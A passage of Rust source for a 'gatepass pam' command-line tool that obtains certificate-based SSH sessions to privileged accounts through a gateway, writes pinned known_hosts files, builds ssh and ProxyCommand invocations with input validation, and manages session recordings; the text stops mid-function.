//! `gatepass pam …`: privileged sessions through a gatepass-gateway.
//!
//! `pam ssh access` and `pam ssh config` ask the server for access to an
//! account (`pam/resources/<r>/accounts/<a>/access`) with a key pair made
//! here, and get back a session and a user certificate of the gateway
//! session CA for that key. The account's own password or key never comes
//! this way: the gateway fetches it from the server and logs in to the
//! target itself. `access` runs the system `ssh` to the gateway with the
//! key, the certificate and a known_hosts pinning the gateway's host keys,
//! all in a private temporary folder removed afterwards; `config` keeps
//! them in a folder per session and prints an `~/.ssh/config` block.
//! `pam sessions …` lists, shows and terminates sessions, and verifies,
//! exports and replays their recordings.

use std::ffi::OsString;
use std::fmt;
use std::fs;
use std::io::ErrorKind;
use std::os::unix::fs::{DirBuilderExt, PermissionsExt};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use gatepass_api::pam::{
    Access, AccessRequest, SessionInfo, SessionList, SessionRecordings, SessionState,
};
use gatepass_api::recording::{cast_events, cast_of, EventKind};
use nix::sys::signal::{kill, Signal};
use nix::unistd::Pid;
use serde_json::{json, Map, Value};
use ssh_key::{Algorithm, Certificate, LineEnding, PrivateKey, PublicKey};
use zeroize::Zeroizing;

use super::engine::{parse_cert, with_comment};
use super::signals::{interruptible, Signals};
use super::sshfiles::{check_ssh_option, home, private_dir, write_new};
use super::{Ctx, GlobalArgs};
use crate::clock::now;
use crate::error::{Error, Result};
use crate::output::{self, Format, Row};

pub const EXAMPLES: &str = "\
Examples:
  gatepass pam ssh access --resource web1 --account root --duration 1h
  gatepass pam ssh config --resource web1 --account root >> ~/.ssh/config
  gatepass pam sessions list --state active
  gatepass pam sessions terminate 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b
  gatepass pam sessions verify 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b
  gatepass pam sessions export 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b -o session.cast";

pub const ACCESS_EXAMPLES: &str = "\
Examples:
  # An interactive shell as the account `root` of the resource `web1`, for 1 hour:
  gatepass pam ssh access --resource web1 --account root --duration 1h

  # One command; gatepass exits with its exit status:
  gatepass pam ssh access --resource web1 --account root --duration 10m -- uptime

  # A local forward (when the account allows forwarding):
  gatepass pam ssh access --resource db1 --account app -o 'LocalForward=5432 localhost:5432'";

pub const CONFIG_EXAMPLES: &str = "\
Examples:
  gatepass pam ssh config --resource web1 --account root --duration 2h >> ~/.ssh/config
  ssh gatepass-web1-root
  scp backup.tar gatepass-web1-root:/srv/
  sftp gatepass-web1-root";

pub const LIST_EXAMPLES: &str = "\
Examples:
  gatepass pam sessions list
  gatepass pam sessions list --resource web1 --state active
  gatepass pam sessions list --user alice --format json";

pub const SHOW_EXAMPLES: &str = "\
Examples:
  gatepass pam sessions show 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b
  gatepass pam sessions show 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b --format json";

pub const VERIFY_EXAMPLES: &str = "\
Examples:
  gatepass pam sessions verify 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b

A policy that lets a person see sessions but not read what was typed in
them:
  path \"pam/sessions/*\" { capabilities = [\"read\"] }
  path \"pam/sessions/+/recording\" { capabilities = [\"deny\"] }";

pub const EXPORT_EXAMPLES: &str = "\
Examples:
  gatepass pam sessions export 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b -o session.cast
  asciinema play session.cast
  gatepass pam sessions export 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b --format json";

pub const REPLAY_EXAMPLES: &str = "\
Examples:
  gatepass pam sessions replay 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b --speed 2 --idle-limit 1";

pub const WATCH_EXAMPLES: &str = "\
Examples:
  gatepass pam sessions watch 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b";

pub const TERMINATE_EXAMPLES: &str = "\
Examples:
  gatepass pam sessions terminate 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b";

#[derive(Debug, clap::Subcommand)]
pub enum Command {
    /// SSH to accounts of resources through their gateway
    ///
    /// `access` logs in with the system ssh; `config` prints an
    /// ~/.ssh/config block for plain ssh, scp and sftp.
    #[command(subcommand, after_long_help = EXAMPLES)]
    Ssh(SshCommand),

    /// List, show and terminate sessions
    #[command(subcommand, after_long_help = LIST_EXAMPLES)]
    Sessions(SessionsCommand),
}

#[derive(Debug, clap::Subcommand)]
pub enum SshCommand {
    /// Get a session for an account and log in with the system ssh
    ///
    /// Makes a new ed25519 key pair, asks the server for access to the
    /// account (pam/resources/<resource>/accounts/<account>/access) and
    /// gets a session and an SSH certificate for the key, valid until the
    /// session ends. Then runs `ssh` to the session's gateway with that key
    /// and certificate, checking the gateway's host key against the keys
    /// the server gave (a known_hosts file of its own, strict host key
    /// checking): an interactive shell, or the command after `--`. The
    /// gateway logs in to the target with the account's credential, which
    /// never reaches this machine.
    ///
    /// The key, the certificate and the known_hosts file are in a private
    /// temporary folder (0700, in $XDG_RUNTIME_DIR when set, else $TMPDIR;
    /// the key 0600), removed when ssh exits, also on errors and on Ctrl-C
    /// (SIGINT, SIGTERM, SIGHUP and SIGQUIT are passed on to ssh). Before
    /// ssh runs, the gateway must answer on its port within 5 seconds; a
    /// gateway without an inbound port (relay) is reached through the
    /// server instead, with `gatepass pam ssh relay` as ssh's ProxyCommand
    /// and the gateway's keys pinned under HostKeyAlias. The
    /// session ID and its end go to stderr; the exit status is ssh's
    /// (128+N when ssh died of signal N).
    ///
    /// The command run is `ssh [-F FILE] -i KEY -o CertificateFile=CERT -o
    /// IdentitiesOnly=yes -o UserKnownHostsFile=FILE -o
    /// GlobalKnownHostsFile=/dev/null -o StrictHostKeyChecking=yes [-o
    /// OPTION…] -p PORT -l LOGIN -- HOST [COMMAND…]`.
    #[command(after_long_help = ACCESS_EXAMPLES)]
    Access(AccessArgs),

    /// Get a session for an account and print an ~/.ssh/config block for it
    ///
    /// Gets access as `access` does, but keeps the key (0600), the
    /// certificate and the gateway's known_hosts in a folder of the session
    /// (<dir>/<session ID>, 0700), and prints a `Host
    /// gatepass-<resource>-<account>` block using them, so that plain
    /// `ssh`, `scp` and `sftp` reach the session until it ends (for a relay
    /// gateway, through a ProxyCommand running `gatepass pam ssh relay`
    /// with this server's address and CA; the token comes from the
    /// environment or `gatepass login`, as for any command). Add the
    /// block to ~/.ssh/config (or a file it Includes). A comment line in the
    /// block says the session ID and when it ends. Folders of sessions that
    /// have ended are removed the next time this runs.
    #[command(after_long_help = CONFIG_EXAMPLES)]
    Config(ConfigArgs),

    /// Carry ssh's connection to a session's gateway through the server
    /// (ssh's ProxyCommand)
    ///
    /// For gateways without an inbound port (enrolled with
    /// `gatepass-gateway setup --relay`): asks the server to relay a
    /// connection to the session's gateway (POST
    /// pam/sessions/<id>/relay, an HTTP upgrade) with this command's
    /// server address, CA and token, then copies stdin to the connection
    /// and the connection to stdout until either side closes. `pam ssh
    /// access` and `pam ssh config` put it in ssh's ProxyCommand for such
    /// gateways; only the token that asked for the session may relay to
    /// it. Waits at most 10 s for the gateway to pick the connection up.
    #[command(after_long_help = RELAY_EXAMPLES)]
    Relay(IdArgs),
}

pub const RELAY_EXAMPLES: &str = "\
Examples:
  # What `pam ssh config` writes for a relay gateway's session:
  ProxyCommand '/usr/bin/gatepass' --address 'https://gatepass.example.com:8200' pam ssh relay 4f3c2a1e-5b6d-4e7f-8a9b-0c1d2e3f4a5b";

#[derive(Debug, clap::Subcommand)]
pub enum SessionsCommand {
    /// List sessions, newest first
    ///
    /// Reads `LIST pam/sessions` with the filters given. The table shows
    /// each session's ID, state (with the reason it ended), resource,
    /// account, who asked for it and when it was created, ends or ended;
    /// --format json prints the sessions as a JSON list.
    #[command(after_long_help = LIST_EXAMPLES)]
    List(ListArgs),

    /// Show one session: who, what, when, its state and why it ended
    #[command(after_long_help = SHOW_EXAMPLES)]
    Show(IdArgs),

    /// End a session now
    ///
    /// The gateway closes the session's connection within 2 seconds; the
    /// session is recorded as ended with the reason `terminated`.
    #[command(after_long_help = TERMINATE_EXAMPLES)]
    Terminate(IdArgs),

    /// Check that a session's recording is whole
    ///
    /// Reads `pam/sessions/<id>/recording` (its own ACL path): the server
    /// opens every chunk with the recording's key and follows the hash
    /// chain to the end the gateway signed. Prints, for each connection's
    /// recording, that it is whole, or the first chunk edited, dropped,
    /// reordered or missing at the end, or that it was cut (the gateway
    /// stopped without signing its end). Exits 0 only when every recording
    /// is whole, 1 otherwise.
    #[command(after_long_help = VERIFY_EXAMPLES)]
    Verify(IdArgs),

    /// Write a session's recording as asciicast v2 or JSON events
    ///
    /// --format cast (the default here) writes an asciicast v2 file that
    /// `asciinema play` plays: the terminal output, input and resizes of
    /// every shell and exec channel, on one time line. --format json writes
    /// every event (commands and their exit status, sftp operations, port
    /// forwards too) of each recording. Only chunks that verify are
    /// written; a warning says when the recording is not whole.
    #[command(after_long_help = EXPORT_EXAMPLES)]
    Export(ExportArgs),

    /// Play a session's recording in the terminal at its own pace
    #[command(after_long_help = REPLAY_EXAMPLES)]
    Replay(ReplayArgs),

    /// Follow a live session's terminal output as it runs
    ///
    /// Prints what the session's recordings hold so far, then what is
    /// recorded next, a few seconds behind the session at most (the gateway
    /// sends a chunk every 2 seconds by default; this asks the server every
    /// second for the chunks after those it has shown). Stops when every
    /// recording of the session has ended, or some seconds after the
    /// session did. Needs read on `pam/sessions/<id>` and on its
    /// `recording`.
    #[command(after_long_help = WATCH_EXAMPLES)]
    Watch(IdArgs),
}

#[derive(Debug, clap::Args)]
pub struct ExportArgs {
    /// The session's ID
    #[arg(value_name = "SESSION_ID")]
    pub id: String,
    /// Write to this file instead of standard output
    #[arg(short, long, value_name = "FILE")]
    pub output: Option<PathBuf>,
}

#[derive(Debug, clap::Args)]
pub struct ReplayArgs {
    /// The session's ID
    #[arg(value_name = "SESSION_ID")]
    pub id: String,
    /// Play this many times faster
    #[arg(long, default_value_t = 1.0, value_name = "FACTOR")]
    pub speed: f64,
    /// Shorten every pause longer than this many seconds to it
    #[arg(long, value_name = "SECONDS")]
    pub idle_limit: Option<f64>,
}

/// Which account, for how long.
#[derive(Debug, clap::Args)]
pub struct Grant {
    /// The resource (a server reached through a gateway)
    #[arg(long, value_name = "NAME")]
    pub resource: String,

    /// The account on it
    #[arg(long, value_name = "NAME")]
    pub account: String,

    /// How long the session lasts, e.g. 30m or 2h [default: the account's
    /// max_duration]
    #[arg(long, value_name = "DURATION")]
    pub duration: Option<String>,
}

#[derive(Debug, clap::Args)]
pub struct AccessArgs {
    #[command(flatten)]
    pub grant: Grant,

    /// An ssh option (as ssh's -o), e.g. ServerAliveInterval=30; repeat
    /// for more
    #[arg(short = 'o', long = "ssh-option", value_name = "KEY=VALUE")]
    pub ssh_options: Vec<String>,

    /// ssh's configuration file (ssh -F) [default: ssh's own,
    /// ~/.ssh/config and /etc/ssh/ssh_config]
    #[arg(short = 'F', long, value_name = "FILE")]
    pub ssh_config: Option<PathBuf>,

    /// After `--`: the command to run and its arguments [default: an
    /// interactive shell]
    #[arg(last = true, value_name = "COMMAND")]
    pub command: Vec<String>,
}

#[derive(Debug, clap::Args)]
pub struct ConfigArgs {
    #[command(flatten)]
    pub grant: Grant,

    /// Where the sessions' folders go [default: ~/.gatepass/pam]
    #[arg(long, value_name = "DIR")]
    pub dir: Option<PathBuf>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum StateArg {
    /// Granted, nobody connected yet
    Pending,
    /// Someone is connected
    Active,
    /// Over: expired, terminated, closed, or the gateway lost it
    Ended,
}

impl StateArg {
    fn as_str(self) -> &'static str {
        match self {
            StateArg::Pending => "pending",
            StateArg::Active => "active",
            StateArg::Ended => "ended",
        }
    }
}

#[derive(Debug, clap::Args)]
pub struct ListArgs {
    /// Only sessions of this resource
    #[arg(long, value_name = "NAME")]
    pub resource: Option<String>,

    /// Only sessions of this account
    #[arg(long, value_name = "NAME")]
    pub account: Option<String>,

    /// Only sessions this user asked for (a token's display name)
    #[arg(long, value_name = "NAME")]
    pub user: Option<String>,

    /// Only sessions in this state
    #[arg(long, value_enum)]
    pub state: Option<StateArg>,

    /// Only sessions whose recorded output, input or commands contain TEXT
    /// (exactly, case and all). The server searches the 200 newest
    /// sessions that match the other filters and whose recordings the
    /// token may read; narrow with the other filters to reach older ones.
    #[arg(long, value_name = "TEXT")]
    pub grep: Option<String>,
}

#[derive(Debug, clap::Args)]
pub struct IdArgs {
    /// The session's ID
    #[arg(value_name = "SESSION_ID")]
    pub id: String,
}

/// Runs a pam command; the exit status is 0 except for `ssh access`, which
/// ends with ssh's.
pub async fn run(global: &GlobalArgs, cmd: Command) -> Result<u8> {
    match cmd {
        Command::Ssh(SshCommand::Access(a)) => {
            return access(&Ctx::new(global)?, &Via::of(global)?, a).await
        }
        Command::Ssh(SshCommand::Config(a)) => {
            config(&Ctx::new(global)?, &Via::of(global)?, a).await?
        }
        Command::Ssh(SshCommand::Relay(a)) => relay(&Ctx::new(global)?, a).await?,
        Command::Sessions(SessionsCommand::List(a)) => list(&Ctx::new(global)?, a).await?,
        Command::Sessions(SessionsCommand::Show(a)) => show(&Ctx::new(global)?, a).await?,
        Command::Sessions(SessionsCommand::Terminate(a)) => {
            terminate(&Ctx::new(global)?, a).await?
        }
        Command::Sessions(SessionsCommand::Verify(a)) => {
            return verify(&Ctx::new(global)?, a).await
        }
        Command::Sessions(SessionsCommand::Export(a)) => export(&Ctx::new(global)?, a).await?,
        Command::Sessions(SessionsCommand::Replay(a)) => replay(&Ctx::new(global)?, a).await?,
        Command::Sessions(SessionsCommand::Watch(a)) => watch(&Ctx::new(global)?, a).await?,
    }
    Ok(0)
}

// ------------------------------------------------------------ names

/// One segment of an API path, as resource, account and session names are:
/// nothing that would reach another path.
fn segment<'a>(what: &str, name: &'a str) -> Result<&'a str> {
    let bad = name.is_empty()
        || name.starts_with('.')
        || name.chars().any(|c| {
            matches!(c, '/' | '?' | '#' | '%' | '\\') || c.is_whitespace() || c.is_control()
        });
    if bad {
        return Err(Error::Usage(format!("{name:?} is not a valid {what} name")));
    }
    Ok(name)
}

fn access_path(resource: &str, account: &str) -> Result<String> {
    Ok(format!(
        "pam/resources/{}/accounts/{}/access",
        segment("resource", resource)?,
        segment("account", account)?
    ))
}

/// The `Host` name of a session's config block. Characters ssh_config
/// reads as pattern syntax become `_`.
fn host_alias(resource: &str, account: &str) -> String {
    format!("gatepass-{resource}-{account}")
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || "-_.".contains(c) {
                c
            } else {
                '_'
            }
        })
        .collect()
}

// ---------------------------------------------------------- gateway

/// Where the gateway listens: the access answer's `host:port`.
#[derive(Clone, Debug, PartialEq, Eq)]
struct GatewayAddr {
    host: String,
    port: u16,
}

impl GatewayAddr {
    /// `host:port`, `[v6]:port`; without a port, 22.
    fn parse(s: &str) -> Result<GatewayAddr> {
        let bad = || {
            Error::Local(format!(
                "the server gave the gateway's address as {s:?}, which is not host:port"
            ))
        };
        let port = |p: &str| p.parse::<u16>().ok().filter(|p| *p != 0).ok_or_else(bad);
        let (host, port) = if let Some(rest) = s.strip_prefix('[') {
            let (host, after) = rest.split_once(']').ok_or_else(bad)?;
            match after {
                "" => (host, 22),
                a => (host, port(a.strip_prefix(':').ok_or_else(bad)?)?),
            }
        } else {
            match s.rsplit_once(':') {
                // More than one colon and no brackets: an IPv6 address alone.
                Some((h, _)) if h.contains(':') => (s, 22),
                Some((h, p)) => (h, port(p)?),
                None => (s, 22),
            }
        };
        // It goes on ssh's command line and into ssh_config and known_hosts.
        let ok = !host.is_empty()
            && !host.starts_with('-')
            && host
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".-_:".contains(c));
        if !ok {
            return Err(bad());
        }
        Ok(GatewayAddr {
            host: host.to_string(),
            port,
        })
    }

    /// The name ssh looks the host up by in known_hosts: the host alone
    /// on port 22, else `[host]:port`.
    fn known_hosts_name(&self) -> String {
        if self.port == 22 {
            self.host.clone()
        } else {
            format!("[{}]:{}", self.host, self.port)
        }
    }
}

impl fmt::Display for GatewayAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.host.contains(':') {
            write!(f, "[{}]:{}", self.host, self.port)
        } else {
            write!(f, "{}:{}", self.host, self.port)
        }
    }
}

/// How ssh reaches the session's gateway.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Route {
    /// On the gateway's own port.
    Direct(GatewayAddr),
    /// Through the server (`pam ssh relay` as ssh's ProxyCommand): the
    /// gateway has no inbound port. ssh knows it by [`Route::host_name`],
    /// which its known_hosts entry names (HostKeyAlias).
    Relay { gateway: String },
}

impl Route {
    fn of(access: &Access) -> Result<Route> {
        if !access.relay {
            return Ok(Route::Direct(GatewayAddr::parse(&access.gateway)?));
        }
        let ok = !access.gateway.is_empty()
            && access
                .gateway
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-_.".contains(c));
        if !ok {
            return Err(Error::Local(format!(
                "the server named the session's gateway {:?}, which is not a gateway name",
                access.gateway
            )));
        }
        Ok(Route::Relay {
            gateway: access.gateway.clone(),
        })
    }

    /// The name ssh dials (direct) or knows the gateway by (relay).
    fn host_name(&self) -> String {
        match self {
            Route::Direct(a) => a.host.clone(),
            Route::Relay { gateway } => format!("gatepass-gateway-{gateway}"),
        }
    }

    /// The name of the gateway's keys in known_hosts.
    fn known_hosts_name(&self) -> String {
        match self {
            Route::Direct(a) => a.known_hosts_name(),
            Route::Relay { .. } => self.host_name(),
        }
    }
}

impl fmt::Display for Route {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Route::Direct(a) => a.fmt(f),
            Route::Relay { gateway } => write!(f, "{gateway} (relayed by the server)"),
        }
    }
}

/// How a ProxyCommand reaches the server as this command did: this
/// program, with the server's address and CA as flags (the token comes
/// from the environment or `gatepass login`'s file, as for any command).
#[derive(Clone, Debug, PartialEq, Eq)]
struct Via {
    exe: PathBuf,
    addr: String,
    ca_cert: Option<PathBuf>,
}

impl Via {
    fn of(global: &GlobalArgs) -> Result<Via> {
        let s = super::settings(global);
        let exe = std::env::current_exe()
            .map_err(|e| Error::Local(format!("cannot find this program's path: {e}")))?;
        let ca_cert = s.ca_cert.map(|c| std::path::absolute(&c).unwrap_or(c));
        Ok(Via {
            exe,
            addr: s.addr,
            ca_cert,
        })
    }

    /// `'EXE' --address 'URL' [--ca-cert 'FILE'] pam ssh relay ID`: run by
    /// ssh through the shell, after ssh expanded its `%` tokens.
    fn proxy_command(&self, session_id: &str) -> Result<String> {
        let word = |s: &str| -> Result<String> {
            if s.chars().any(|c| c.is_control()) {
                return Err(Error::Local(format!(
                    "{s:?} cannot be given to ssh's ProxyCommand"
                )));
            }
            // Single quotes for the shell; %% for ssh's own expansion.
            Ok(format!("'{}'", s.replace('\'', "'\\''").replace('%', "%%")))
        };
        let path = |p: &Path| -> Result<String> {
            p.to_str()
                .ok_or_else(|| Error::Local(format!("{} is not UTF-8", p.display())))
                .and_then(word)
        };
        let mut cmd = format!("{} --address {}", path(&self.exe)?, word(&self.addr)?);
        if let Some(ca) = &self.ca_cert {
            cmd.push_str(&format!(" --ca-cert {}", path(ca)?));
        }
        cmd.push_str(&format!(" pam ssh relay {}", word(session_id)?));
        Ok(cmd)
    }
}

impl Via {
    /// ssh's options (KEY=VALUE) for a relayed session: the ProxyCommand,
    /// and the name its known_hosts entry is under. None for a direct one.
    fn relay_options(&self, g: &Granted) -> Result<Vec<String>> {
        Ok(match &g.gateway {
            Route::Direct(_) => Vec::new(),
            Route::Relay { .. } => vec![
                format!("ProxyCommand={}", self.proxy_command(&g.access.session_id)?),
                format!("HostKeyAlias={}", g.gateway.known_hosts_name()),
            ],
        })
    }
}

/// known_hosts lines pinning the gateway's host keys (comments dropped),
/// under `name`.
fn known_hosts_lines(name: &str, keys: &[String]) -> Result<String> {
    let mut out = String::new();
    for k in keys.iter().map(|k| k.trim()).filter(|k| !k.is_empty()) {
        let key = PublicKey::from_openssh(k)
            .and_then(|k| PublicKey::from(k.key_data().clone()).to_openssh())
            .map_err(|_| {
                Error::Local(format!(
                    "the server gave a host key of the gateway that is not an SSH public key: {k:?}"
                ))
            })?;
        out.push_str(&format!("{name} {key}\n"));
    }
    if out.is_empty() {
        return Err(Error::Local(
            "the server gave no host key for the gateway, so it cannot be checked; the \
             gateway must be enrolled with its host keys"
                .into(),
        ));
    }
    Ok(out)
}

/// Connects to the gateway's port and hangs up: whether ssh has a chance.
async fn check_reachable(gw: &GatewayAddr, timeout: Duration) -> std::result::Result<(), String> {
    let attempt = async {
        let addrs = tokio::net::lookup_host((gw.host.as_str(), gw.port))
            .await
            .map_err(|e| format!("cannot resolve {}: {e}", gw.host))?;
        let mut last = String::from("the name has no address");
        for a in addrs {
            match tokio::net::TcpStream::connect(a).await {
                Ok(_) => return Ok(()),
                Err(e) if e.kind() == ErrorKind::ConnectionRefused => {
                    last = "connection refused".into()
                }
                Err(e) => last = e.to_string(),
            }
        }
        Err(last)
    };
    match tokio::time::timeout(timeout, attempt).await {
        Ok(r) => r,
        Err(_) => Err(format!("no answer within {} s", timeout.as_secs())),
    }
}

// ------------------------------------------------------------ grant

/// A granted session, with the key made for it.
struct Granted {
    access: Access,
    gateway: Route,
    /// The private key, OpenSSH form.
    key_pem: Zeroizing<String>,
    /// The certificate line.
    cert_text: String,
    known_hosts: String,
}

/// Makes a key pair in memory and asks for access to the account with its
/// public key; checks that the certificate is for that key.
/// `reusable`: the session serves any number of connections until its end
/// (`pam ssh config`); otherwise the one connection `pam ssh access` makes.
async fn request_access(
    ctx: &Ctx,
    grant: &Grant,
    reusable: bool,
    signals: &mut Signals,
) -> Result<Granted> {
    let path = access_path(&grant.resource, &grant.account)?;
    let mut key = PrivateKey::random(&mut rand::rngs::OsRng, Algorithm::Ed25519)
        .map_err(|e| Error::Local(format!("cannot generate a key: {e}")))?;
    let request = AccessRequest {
        duration: grant.duration.clone(),
        public_key: key
            .public_key()
            .to_openssh()
            .map_err(|e| Error::Local(format!("cannot encode the public key: {e}")))?,
        reusable,
    };
    let body = match serde_json::to_value(&request) {
        Ok(Value::Object(m)) => m,
        _ => Map::new(),
    };
    let action = format!(
        "requesting access to the account {} of the resource {}",
        grant.account, grant.resource
    );
    let resp = interruptible(signals, ctx.call("POST", &path, Some(&body), &action))
        .await?
        .ok_or_else(|| Error::Api {
            action: action.clone(),
            status: 404,
            errors: vec![format!(
                "no such resource or account (or this server has no PAM sessions): {path}"
            )],
            hint: None,
        })?;
    let access: Access = gatepass_api::data_of(&resp).ok_or_else(|| {
        Error::Local(format!(
            "{action}: the server's answer is not a granted session"
        ))
    })?;
    segment("session", &access.session_id)
        .map_err(|_| Error::Local(format!("{action}: the server's session ID is not usable")))?;
    let cert = parse_cert(&access.signed_key, &action)?;
    if cert.public_key() != key.public_key().key_data() {
        return Err(Error::Local(format!(
            "{action}: the server returned a certificate for another key"
        )));
    }
    check_login(&access.login, &action)?;
    check_end(&access.expires_at, &action)?;
    let gateway = Route::of(&access)?;
    let known_hosts = known_hosts_lines(&gateway.known_hosts_name(), &access.gateway_host_keys)?;
    let comment = format!("gatepass-pam:{}", access.session_id);
    key.set_comment(comment.clone());
    let key_pem = key
        .to_openssh(LineEnding::LF)
        .map_err(|e| Error::Local(format!("cannot encode the private key: {e}")))?;
    Ok(Granted {
        cert_text: with_comment(&access.signed_key, &comment),
        access,
        gateway,
        key_pem,
        known_hosts,
    })
}

/// The session's end time is printed into the ssh_config block that users
/// append to ~/.ssh/config: only a time is taken, so that no line of the
/// server's making (a `Host *` with a ProxyCommand) can ride in with it.
fn check_end(expires_at: &str, action: &str) -> Result<()> {
    use time::format_description::well_known::Rfc3339;
    match time::OffsetDateTime::parse(expires_at, &Rfc3339) {
        Ok(_) => Ok(()),
        Err(_) => Err(Error::Local(format!(
            "{action}: the server's end time {expires_at:?} is not an RFC 3339 time"
        ))),
    }
}

/// The login goes to ssh's -l and into ssh_config (where `%r` may put it
/// in a ProxyCommand's quotes).
pub(crate) fn check_login(login: &str, action: &str) -> Result<()> {
    let ok = !login.is_empty()
        && !login.starts_with('-')
        && !login
            .chars()
            .any(|c| c.is_whitespace() || c.is_control() || "\"'%#\\".contains(c));
    if ok {
        Ok(())
    } else {
        Err(Error::Local(format!(
            "{action}: the server's login name {login:?} cannot be given to ssh"
        )))
    }
}

/// "session S for root on web1, ends at T (in 1h)".
fn session_line(g: &Granted, grant: &Grant, now: u64) -> String {
    let left = g.access.expires_at_unix - i64::try_from(now).unwrap_or(i64::MAX);
    format!(
        "session {} for {} on {}, ends at {} (in {})",
        g.access.session_id,
        grant.account,
        grant.resource,
        g.access.expires_at,
        output::format_remaining(left)
    )
}

/// The files ssh uses for one session.
#[derive(Debug)]
struct SessionFiles {
    key: PathBuf,
    cert: PathBuf,
    known_hosts: PathBuf,
}

fn write_session_files(dir: &Path, g: &Granted) -> Result<SessionFiles> {
    let files = SessionFiles {
        key: dir.join("id"),
        cert: dir.join("id-cert.pub"),
        known_hosts: dir.join("known_hosts"),
    };
    for p in [&files.key, &files.cert, &files.known_hosts] {
        config_path(p)?;
    }
    write_new(&files.key, g.key_pem.as_bytes(), 0o600)?;
    write_new(&files.cert, g.cert_text.as_bytes(), 0o644)?;
    write_new(&files.known_hosts, g.known_hosts.as_bytes(), 0o644)?;
    Ok(files)
}

/// A path as an ssh option's value (`-o` or ssh_config), where ssh splits
/// on spaces, expands `%` and `~`, and knows no escapes inside quotes.
fn config_path(p: &Path) -> Result<String> {
    let s = p.to_str().unwrap_or("\u{0}");
    if s.chars().any(|c| c.is_control() || c == '"' || c == '%') || s.starts_with('~') {
        return Err(Error::Local(format!(
            "{} cannot be given to ssh (a path without quotes, % or a leading ~ is needed)",
            p.display()
        )));
    }
    if s.chars().any(char::is_whitespace) {
        Ok(format!("\"{s}\""))
    } else {
        Ok(s.to_string())
    }
}

// ----------------------------------------------------------- access

async fn access(ctx: &Ctx, via: &Via, args: AccessArgs) -> Result<u8> {
    access_path(&args.grant.resource, &args.grant.account)?;
    for o in &args.ssh_options {
        check_ssh_option(o)?;
    }
    // From here on, a signal ends the command through the cleanup below.
    let mut signals = Signals::new()?;
    let dir = private_dir("gatepass-pam-")?;
    let outcome = access_in(ctx, via, &args, dir.path(), &mut signals).await;
    let shown = dir.path().display().to_string();
    let cleaned = dir.close();
    let code = outcome?;
    if let Err(e) = cleaned {
        return Err(Error::Local(format!(
            "could not remove the temporary folder {shown}, which holds a private key: {e}; \
             delete it now"
        )));
    }
    Ok(code)
}

async fn access_in(
    ctx: &Ctx,
    via: &Via,
    args: &AccessArgs,
    dir: &Path,
    signals: &mut Signals,
) -> Result<u8> {
    let g = request_access(ctx, &args.grant, false, signals).await?;
    let files = write_session_files(dir, &g)?;
    let sid = g.access.session_id.clone();

    // A relayed connection's ProxyCommand says itself when the gateway
    // does not pick it up.
    let reached = match &g.gateway {
        Route::Direct(addr) => tokio::select! {
            r = check_reachable(addr, Duration::from_secs(5)) => r,
            sig = signals.next() => {
                return Err(Error::Local(format!("interrupted by {}", sig.as_str())))
            }
        },
        Route::Relay { .. } => Ok(()),
    };
    if let Err(reason) = reached {
        let gw = match gateway_name(ctx, &sid).await {
            Some(n) => format!("the gateway {n}"),
            None => "the gateway".to_string(),
        };
        return Err(Error::Local(format!(
            "cannot reach {gw} at {}: {reason} (session {sid} was granted; it can be used \
             until {} once the gateway is back)",
            g.gateway, g.access.expires_at
        )));
    }

    eoutln!("gatepass: {}", session_line(&g, &args.grant, now()));
    let argv = ssh_command(
        &files,
        args.ssh_config.as_deref(),
        &g.gateway,
        via.relay_options(&g)?.as_slice(),
        &g.access.login,
        &args.ssh_options,
        &args.command,
    )?;
    drop(g.key_pem);
    let (code, forwarded) = run_ssh(&argv, signals).await?;
    if let Some(sig) = forwarded {
        eoutln!(
            "gatepass: ssh ended after {} was passed on to it",
            sig.as_str()
        );
    } else if code == 255 {
        eoutln!(
            "Error: ssh could not connect or log in through the gateway, or the connection \
             broke (exit status 255; ssh's own message is above).\nHint: `gatepass pam sessions \
             show {sid}` says whether the session is still open, and why it ended."
        );
    }
    Ok(code)
}

/// The gateway's name from the session, for an error message; None when
/// it cannot be read soon (the caller may lack read access to sessions).
async fn gateway_name(ctx: &Ctx, sid: &str) -> Option<String> {
    let path = format!("pam/sessions/{sid}");
    let read = ctx.call("GET", &path, None, "");
    match tokio::time::timeout(Duration::from_secs(2), read).await {
        Ok(Ok(Some(resp))) => gatepass_api::data_of::<SessionInfo>(&resp).map(|s| s.gateway),
        _ => None,
    }
}

/// `ssh [-F CONFIG] -i KEY -o CertificateFile=… -o IdentitiesOnly=yes -o
/// UserKnownHostsFile=… -o GlobalKnownHostsFile=/dev/null -o
/// StrictHostKeyChecking=yes [-o THEIRS…] -p PORT -l LOGIN -- HOST [COMMAND…]`.
/// Ours come first: ssh keeps the first value of an option.
fn ssh_command(
    files: &SessionFiles,
    config: Option<&Path>,
    gw: &Route,
    relay_options: &[String],
    login: &str,
    extra_options: &[String],
    command: &[String],
) -> Result<Vec<OsString>> {
    let mut argv: Vec<OsString> = vec!["ssh".into()];
    if let Some(c) = config {
        argv.extend(["-F".into(), c.into()]);
    }
    argv.extend(["-i".into(), files.key.clone().into()]);
    let ours = [
        format!("CertificateFile={}", config_path(&files.cert)?),
        "IdentitiesOnly=yes".into(),
        format!("UserKnownHostsFile={}", config_path(&files.known_hosts)?),
        // Only the gateway's keys as the server gave them.
        "GlobalKnownHostsFile=/dev/null".into(),
